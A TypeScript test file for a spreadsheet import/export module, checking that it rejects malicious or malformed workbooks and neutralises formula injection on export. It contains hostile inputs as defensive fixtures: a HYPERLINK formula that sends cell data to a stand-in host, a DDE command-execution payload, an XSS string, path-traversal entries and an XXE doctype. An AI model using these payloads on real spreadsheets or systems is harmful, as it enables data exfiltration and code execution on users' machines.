import { utils, write, read } from '@e965/xlsx';
import { zipSync, strToU8 } from 'fflate';
import { describe, expect, test } from 'vitest';
import { exportCell } from '../../../../src/guards/export-cell.ts';
import { readTexts } from './read-rows.ts';
import { writeRows } from './write-rows.ts';
import { inLongRun } from '../../../../../scripts/testing/inLongRun.mjs';

const MAX_ROWS = 1002;
const workbookOf = (matrix: readonly (readonly unknown[])[]): Uint8Array =>
  new Uint8Array(write(utils.book_new(utils.aoa_to_sheet(matrix.map((row) => [...row])), 'a'), { type: 'array' }) as ArrayBuffer);
/** A workbook whose only sheet is the given XML. */
const workbookWith = (sheet: string, more: Readonly<Record<string, Uint8Array>> = {}): Uint8Array => {
  const types = 'http://schemas.openxmlformats.org/package/2006/content-types';
  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const links = 'http://schemas.openxmlformats.org/package/2006/relationships';
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  return zipSync({
    '[Content_Types].xml': strToU8(
      `<Types xmlns="${types}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>' +
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
    ),
    '_rels/.rels': strToU8(
      `<Relationships xmlns="${links}"><Relationship Id="r1" Type="${office}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    ),
    'xl/workbook.xml': strToU8(
      `<workbook xmlns="${main}" xmlns:r="${office}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>`,
    ),
    'xl/_rels/workbook.xml.rels': strToU8(
      `<Relationships xmlns="${links}"><Relationship Id="r1" Type="${office}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    ),
    'xl/worksheets/sheet1.xml': strToU8(`<?xml version="1.0"?><worksheet xmlns="${main}"><sheetData>${sheet}</sheetData></worksheet>`),
    ...more,
  });
};

describe('a sheet is read', () => {
  test('as texts, with every digit of a number, without empty rows', () => {
    const bytes = workbookOf([
      ['账户', '手机号码'],
      ['lwh0001', 13_800_260_413],
      [null, ''],
      ['  周婷 ', 0.5],
      [true, '007'],
    ]);
    expect(readTexts(bytes, MAX_ROWS)).toEqual([
      ['账户', '手机号码'],
      ['lwh0001', '13800260413'],
      ['周婷', '0.5'],
      ['TRUE', '007'],
    ]);
  });

  test('with the value of a formula, never the formula', () => {
    const sheet = utils.aoa_to_sheet([['name'], [{ t: 'n', v: 5, f: 'HYPERLINK("http://evil.test/?"&A1,"x")' }]]);
    const bytes = new Uint8Array(write(utils.book_new(sheet, 'a'), { type: 'array' }) as ArrayBuffer);
    expect(readTexts(bytes, MAX_ROWS)).toEqual([['name'], ['5']]);
  });

  test('with headers that name a prototype as plain texts', () => {
    expect(
      readTexts(
        workbookOf([
          ['__proto__', 'constructor'],
          ['x', 'y'],
        ]),
        MAX_ROWS,
      ),
    ).toEqual([
      ['__proto__', 'constructor'],
      ['x', 'y'],
    ]);
    expect(({} as Record<string, unknown>)['x']).toBeUndefined();
  });

  test('without control characters and marks of direction', () => {
    expect(readTexts(workbookOf([['a\u0007\u202Eb\nc']]), MAX_ROWS)).toEqual([['ab c']]);
  });

  test('in the older kind of file too', () => {
    const bytes = new Uint8Array(
      write(utils.book_new(utils.aoa_to_sheet([['账户'], ['a']]), 'a'), { type: 'array', bookType: 'biff8' }) as ArrayBuffer,
    );
    expect(readTexts(bytes, MAX_ROWS)).toEqual([['账户'], ['a']]);
  });

  test('no further than asked', () => {
    expect(readTexts(workbookOf(Array.from({ length: 50 }, (_, index) => [`row ${index}`])), 10).length).toBe(10);
  });
});

describe('a file is refused, soon and in words for people', () => {
  const inflated = (bytes: number) => ({ 'xl/worksheets/sheet2.xml': new Uint8Array(bytes) });
  test.each([
    ['HTML with the name of a workbook', strToU8('<html><table><tr><td><img src=x onerror=alert(1)>')],
    ['comma-separated text', strToU8('a,b\n1,2')],
    ['nothing', new Uint8Array(0)],
    ['a picture', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])],
    ['half a workbook', workbookOf([['a']]).slice(0, 500)],
    ['only the signature of the older kind', new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0])],
    ['parts that grow to 40 MiB', workbookWith('', inflated(40 * 1024 * 1024))],
    ['10,001 parts', workbookWith('', Object.fromEntries(Array.from({ length: 10_001 }, (_, index) => [`x/${index}.txt`, strToU8('x')])))],
    ['macros', workbookWith('', { 'xl/vbaProject.bin': strToU8('x') })],
    ['a part above the archive', workbookWith('', { '../../evil.xml': strToU8('x') })],
    ['a part of this computer', workbookWith('', { '/etc/cron.d/x': strToU8('x') })],
    ['a document type', workbookWith('', { 'xl/styles.xml': strToU8('<!DOCTYPE x [<!ENTITY a "b">]><styleSheet/>') })],
    ['a cell far to the right', workbookWith('<row r="1"><c r="A1"><v>1</v></c><c r="XFD1"><v>1</v></c></row>')],
  ])('%s', (_, bytes) => {
    const startedMs = performance.now();
    expect(() => readTexts(bytes, MAX_ROWS)).toThrow(/请选择excel类型的文件|文件无法读取/);
    expect(performance.now() - startedMs).toBeLessThan(inLongRun(1000));
  });

  test('but a cell a million rows down is just not reached', () => {
    expect(
      readTexts(workbookWith('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="A1048576"><v>2</v></c></row>'), MAX_ROWS),
    ).toEqual([['1']]);
  });
});

describe('a sheet is written', () => {
  test('as texts that come back as they were', () => {
    const rows = [
      ['账户', '排序'],
      ['lwh0001', '007'],
    ];
    expect(readTexts(writeRows('用户', rows), MAX_ROWS)).toEqual(rows);
    const sheet = read(writeRows('用户', rows)).Sheets['用户'];
    expect(sheet?.['B2']).toMatchObject({ t: 's', v: '007' });
  });

  test.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['\n=1', "'\n=1"],
    ['＝1', "'＝1"],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['%0A=1', '%0A=1'],
    ["'already", "'already"],
    ['a=1', 'a=1'],
  ])('%j stands as %j', (text, cell) => expect(exportCell(text)).toBe(cell));
});
